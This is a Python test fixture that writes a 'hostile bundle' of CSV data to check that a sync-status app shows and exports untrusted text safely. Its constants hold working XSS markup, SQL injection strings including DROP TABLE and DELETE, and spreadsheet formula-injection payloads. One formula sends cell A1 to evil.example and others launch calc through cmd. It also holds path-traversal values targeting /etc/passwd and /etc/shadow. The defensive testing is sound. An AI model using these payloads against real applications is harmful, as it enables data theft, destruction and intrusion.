"""Hostile values shared by the reliability tests: markup, formulas, SQL, paths, odd text, and a bundle built
from them that imports cleanly (the values are legal text; what matters is how they are shown and exported)."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path

from syncstatus.bundle import ENTITIES

XSS_NAME = '<script>alert("xss-name")</script><img src=x onerror=alert(2)>'
XSS_RESPONSE = '<img src=x onerror=alert("xss-resp")><script>alert(3)</script> [click](javascript:alert(4))'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SQL_INJECTION = ["' OR '1'='1", "1; DROP TABLE sync_document; --", "\" OR 1=1 --", "C001') OR ('1'='1",
                 "'; DELETE FROM center WHERE ''='"]
PATHS = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f"]
ODD_TEXT = ["x" * 5000, "\x00\x01\x02", "\u202eevil\u202c", "ÿþ\ufffd\ufeff", "🙂" * 300, "%00%ff%fe", "<>\"'&;",
            "2026-02-30", "9999-99-99", "-1", "1e309", "NaN", "", " "]
# Links and images in every form a renderer might honour (HTML, markdown, bare URLs and addresses, Streamlit's
# colour directive), all pointing off loopback at TEST-NET-1 (192.0.2.0/24: never routed), so any request for
# them is a leak the browser tests catch.
FOREIGN = "192.0.2.1"
LINK_NAME = (f'<a href="http://{FOREIGN}/a">link-name</a> ![img-name](http://{FOREIGN}/img.png) '
             f"[md-link](http://{FOREIGN}/md) http://{FOREIGN}/bare www.evil-bare.example x@evil-mail.example "
             ":red[red-name]")
LINK_ZONE = f'<a href="http://{FOREIGN}/z">zone-link</a> ![zone-img](http://{FOREIGN}/zone.png) **bold-zone**'
LINK_REF = f"![ext-img](http://{FOREIGN}/ext.png)<a href='http://{FOREIGN}/e'>ext-link</a>"
LINK_JOB = f"failed: see <a href='http://{FOREIGN}/j'>job-link</a> ![job-img](http://{FOREIGN}/job.png)"
LINK_PARAM = f"![p](http://{FOREIGN}/p.png)[param-link](http://{FOREIGN})"  # within order_center's 60 characters
EVERYTHING = SQL_INJECTION + PATHS + ODD_TEXT + FORMULAS + [XSS_NAME, LINK_NAME, LINK_PARAM]

DAY = date(2026, 11, 20)


def _write(out: Path, entity: str, rows: list[list]) -> None:
    with (out / f"{entity}.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(ENTITIES[entity].column_names)
        w.writerows(rows)


def hostile_bundle(out: Path, days: int = 10) -> Path:
    """Two zones, four centers (names: script tag, formula, plain, links and images), each with invoices that
    failed with hostile response text and document numbers that look like formulas; C4's documents carry a link
    and an image as external reference, and its post-sale job failed with one in its message."""
    out.mkdir(parents=True, exist_ok=True)
    _write(out, "zones", [["Z1", "=1+2 Zone <b>bold</b>"], ["Z2", LINK_ZONE]])
    names = {"C1": XSS_NAME, "C2": FORMULAS[0], "C3": "Plain Spa", "C4": LINK_NAME}
    _write(out, "centers", [[code, name, "Z2" if code == "C4" else "Z1", "qbo", "UTC", "true"]
                            for code, name in names.items()])
    start = DAY - timedelta(days=days - 1)
    _write(out, "sync_configs", [[code, start.isoformat(), "invoice_wise"] for code in names])
    _write(out, "sync_jobs", [[code, job, "true", "daily 02:00"] for code in names for job in ("post_sale", "refund")])
    docs, orders = [], []
    for code in names:
        for d in range(days):
            day = (start + timedelta(days=d)).isoformat()
            for i, payload in enumerate([XSS_RESPONSE, *FORMULAS]):
                no = f"{FORMULAS[i % len(FORMULAS)][:20]}-{code}-{d}-{i}" if i else f"INV-{code}-{d}-{i}"
                ref = LINK_REF if code == "C4" else ""
                docs.append([code, "invoice", no, day, "10.00", "failed", "", 1, f"{day}T10:00:00", ref, payload])
                orders.append([code, no, XSS_NAME, day, "10.00", ""])
            docs.append([code, "invoice", f"OK-{code}-{d}", day, "12.00", "processed", "", 1, f"{day}T10:00:00", "", ""])
    _write(out, "documents", docs)
    _write(out, "job_runs", [["C4", "post_sale", f"{DAY.isoformat()}T02:00:00", f"{DAY.isoformat()}T02:05:00", "failed",
                              0, 3, LINK_JOB]])
    _write(out, "sale_orders", orders)
    return out
